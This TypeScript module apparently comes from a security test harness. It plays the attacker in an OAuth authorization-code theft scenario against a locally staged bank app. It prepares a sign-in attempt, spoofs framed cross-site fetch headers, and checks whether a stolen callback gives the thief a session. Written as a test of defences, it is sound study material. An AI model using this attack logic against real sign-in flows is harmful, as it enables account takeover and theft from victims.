/** The thief's own machine: it prepares a sign-in for the victim's browser to finish, and redeems what was stolen. */
import { request } from 'undici';
import type { StageCard } from './stage.ts';

export interface PreparedSignIn {
  /** The bank's authorization endpoint, with an attempt of the thief's. */
  url: string;
  /** The thief's binding cookie, without which the attempt is worth nothing. */
  cookie: string;
}

/** An attempt that may not be restarted any more: a callback that does not fit it ends in a page, code in the address. */
export async function prepareSignIn(card: StageCard): Promise<PreparedSignIn> {
  let entry = `${card.publicUrl}/auth`;
  for (;;) {
    const started = await ask(card, entry);
    const url = new URL(started.location);
    const wrong = `/auth/callback?code=x&state=${url.searchParams.get('state')}`;
    const refused = await ask(card, card.publicUrl + wrong, `__Host-card=${'A'.repeat(43)}`);
    if (refused.location === '') return { url: url.href, cookie: started.cookie };
    entry = refused.location;
  }
}

/** Whether the stolen callback brings the thief a session. */
export async function redeem(card: StageCard, callbackUrl: string, cookie: string): Promise<boolean> {
  return (await ask(card, callbackUrl, cookie)).body.includes('"session":');
}

async function ask({ front, publicUrl }: StageCard, url: string, cookie?: string) {
  const { pathname, search } = new URL(url);
  const framed = {
    'sec-fetch-dest': 'iframe',
    'sec-fetch-mode': 'navigate',
    'sec-fetch-site': 'cross-site',
  };
  const { headers, body } = await request(`http://127.0.0.1:${front.target}${pathname}${search}`, {
    headers: { host: new URL(publicUrl).host, ...framed, ...(cookie === undefined ? {} : { cookie }) },
  });
  const [first = ''] = [headers['set-cookie'] ?? ''].flat();
  return {
    location: String(headers['location'] ?? ''),
    cookie: first.split(';')[0] ?? '',
    body: await body.text(),
  };
}
